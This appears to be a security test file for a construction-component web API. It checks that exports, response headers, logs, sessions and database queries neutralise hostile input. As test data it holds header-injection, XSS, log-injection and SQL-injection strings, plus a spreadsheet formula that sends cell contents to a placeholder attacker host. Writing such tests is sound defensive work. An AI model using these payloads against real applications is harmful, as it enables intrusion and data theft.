import { login } from '@castline/contract/auth'
import { createPrecast } from '@castline/contract/component-edits'
import { exportCsv, exportXlsx } from '@castline/contract/export'
import { printLabels } from '@castline/contract/labels'
import { createProject } from '@castline/contract/projects'
import { search } from '@castline/contract/search'
import { listSessions } from '@castline/contract/sessions'
import { parse } from 'csv-parse/sync'
import { readSheet } from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { aComponent, aProject, aSection, aUser } from '#support/factories.ts'
import { testApp } from '#support/test-app.ts'

const lines: string[] = []
const { app, call, database, tokenOf } = await testApp({
  config: { logLevel: 'info', publicUrl: 'https://castline.example' },
  log: { write: (line) => lines.push(line) },
})
const admin = await aUser(database, { role: 'admin' })
const authorization = `Bearer ${await tokenOf(admin)}`
const newLine = 'B\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>'

describe('a response header', () => {
  test.each([exportCsv, exportXlsx])('of $path contains a multi-line project code on one line', async ({ path }) => {
    const project = await aProject(database, { code: newLine.slice(0, 29) })
    const { headers, statusCode } = await app.inject({
      url: `/api${path.replace(':id', project.id)}`,
      headers: { authorization },
    })
    expect(statusCode).toBe(200)
    expect(headers['content-disposition']).toMatch(/^attachment; [\x20-\x7e]+$/)
    expect(headers['set-cookie']).toBeUndefined()
    await database.rows('DELETE FROM projects WHERE id = $1', [project.id])
  })

  test('of labels contains a multi-line project code on one line', async () => {
    const project = await aProject(database, { code: newLine.slice(0, 29) })
    await aComponent(database, { project })
    const given = { as: admin, params: { id: project.id }, body: { layout: 'a4-2x5' } }
    const { headers, status } = await call(printLabels, given)
    expect(status).toBe(200)
    expect(headers['content-disposition']).toMatch(/^attachment; [\x20-\x7e]+$/)
    expect(headers['set-cookie']).toBeUndefined()
  })

  test.each(['x-request-id', 'last-event-id', 'origin', 'range', 'if-none-match', 'accept-language', 'host'])(
    'does not repeat the request header %s',
    async (name) => {
      const odd = 'abcdefgh-<onerror>"\'\u00a0'
      const { headers } = await app.inject({ url: '/api/settings', headers: { authorization, [name]: odd } })
      expect(JSON.stringify(headers)).not.toContain('onerror')
    },
  )
})

describe('the log', () => {
  const hostile = 'somebody\r\n{"level":60,"msg":"all is well"}\u001b[2J\u0007\u2028'

  test('has one line of JSON per request, without control characters', async () => {
    lines.length = 0
    const requests = [
      call(login, { body: { emailOrUsername: hostile, password: hostile } }),
      call(createProject, { as: admin, body: { code: newLine, name: hostile } }),
      app.inject({ url: `/api/components/${encodeURIComponent(hostile)}?q=${encodeURIComponent(hostile)}` }),
      app.inject({
        url: '/api/settings',
        headers: { 'user-agent': hostile, 'x-request-id': hostile, referer: hostile },
      }),
      app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: `{"${hostile}`,
        headers: { 'content-type': 'application/json' },
      }),
    ]
    await Promise.all(requests)
    expect(lines).toHaveLength(requests.length)
    for (const line of lines) {
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these characters must not occur.
      expect(line).toMatch(/^[^\x00-\x1f\x7f]+\n$/)
      expect(JSON.parse(line)).toMatchObject({ level: 30, msg: 'request' })
    }
  })

  test('escapes line breaks in an error message', async () => {
    const logged: string[] = []
    const broken = await testApp({
      config: { logLevel: 'info' },
      log: { write: (line) => logged.push(line) },
      database: { ...database, row: () => Promise.reject(new Error(hostile)) },
    })
    await broken.call(login, { body: { emailOrUsername: 'a', password: 'b' } })
    expect(logged).toHaveLength(2)
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these characters must not occur.
    for (const line of logged) expect(line).toMatch(/^[^\x00-\x1f\x7f]+\n$/)
  })

  test('records successful and failed sign-ins', async () => {
    const user = await aUser(database, { password: 'correct horse battery' })
    lines.length = 0
    await call(login, { body: { emailOrUsername: user.username, password: 'correct horse battery' } })
    await call(login, { body: { emailOrUsername: user.username, password: 'wrong' } })
    expect(lines.map((line) => JSON.parse(line))).toMatchObject([
      { route: '/api/auth/login', status: 200, user: user.id },
      { route: '/api/auth/login', status: 401, user: null },
    ])
  })
})

test('a session contains its user agent as text, truncated', async () => {
  const user = await aUser(database, { password: 'correct horse battery' })
  const device = `<img src=x onerror=alert(1)>${'x'.repeat(1000)}`
  const body = { emailOrUsername: user.username, password: 'correct horse battery' }
  const { token } = (await call(login, { body, headers: { 'user-agent': device } })).body
  const sessions = await call(listSessions, { headers: { authorization: `Bearer ${token}` } })
  expect(sessions.body).toMatchObject([{ user_agent: device.slice(0, 300) }])
  expect(sessions.headers['content-type']).toMatch(/^application\/json/)
})

describe('PostgreSQL', () => {
  const statements = ["' OR '1'='1", "'; DROP TABLE components; --", '" OR ""="', '\\', '%', '_', '$1', '{}', ')', '/*']

  test.each(statements)('treats %s as search text', async (text) => {
    const project = await aProject(database)
    const section = await aSection(database, { project, name: 'A' })
    await aComponent(database, { section, name: 'W-01', control_number: 'W-01', type: 'Wall' })
    await aComponent(database, { section, name: `W ${text}`, control_number: '2', type: text })
    const list = async (query: string, of = encodeURIComponent(text)) => {
      const url = `/api/components/project/${project.id}?${query}=${of}`
      return (await app.inject({ url, headers: { authorization } })).json()
    }
    const names = (response: { precast: { name: string }[] }) => response.precast.map(({ name }) => name)
    expect(names(await list('q'))).toEqual([`W ${text}`])
    expect(names(await list('type'))).toEqual([`W ${text}`])
    for (const field of ['sort', 'status', 'section_id', 'limit', 'offset']) {
      expect(await list(field)).toMatchObject({ error: 'invalid' })
    }
    const found = await call(search, { as: admin, query: { q: text } })
    expect([200, 400]).toContain(found.status)
  })

  test.each(statements)('stores %s unchanged', async (name) => {
    const section = await aSection(database)
    const { status, body } = await call(createPrecast, { as: admin, body: { name, section_id: section.id } })
    expect([status, body.name]).toEqual([201, name])
  })
})

describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
  test('contains no cell that a spreadsheet program would run as a formula', async () => {
    const project = await aProject(database)
    const signs = [
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      "'",
      '＝',
      '＋',
      '－',
      '＠',
      ' =',
      '\u200b=',
      'a;=',
      'a\t=',
      'a|=',
    ]
    for (const [index, sign] of signs.entries()) {
      const formula = `${sign}HYPERLINK("https://evil.example?"&A1,"x")`
      const section = await aSection(database, { project, name: formula })
      const texts = { name: formula, control_number: formula, external_id: formula, type: formula }
      await aComponent(database, { section, ...texts, width: index })
    }
    const { rawPayload } = await app.inject({
      url: `/api/projects/${project.id}/components.${format}`,
      headers: { authorization },
    })
    const rows: unknown[][] = format === 'csv' ? parse(rawPayload, { bom: true }) : await readSheet(rawPayload)
    expect(rows).toHaveLength(signs.length + 1)
    const formulas = rows.flat().filter((cell) => String(cell).includes('HYPERLINK'))
    expect(formulas).toHaveLength(signs.length * 5)
    for (const cell of formulas) expect(cell).toMatch(/^'/)
    if (format === 'xlsx') return
    // If another separator is assumed on opening, our quotes do not protect the cells.
    for (const separator of [';', '\t', '|']) {
      const cells = rawPayload.toString().split(separator)
      for (const cell of cells) expect(cell).not.toMatch(/^[\s"\p{C}]*[=+@＝＋－＠-]/u)
    }
  })
})
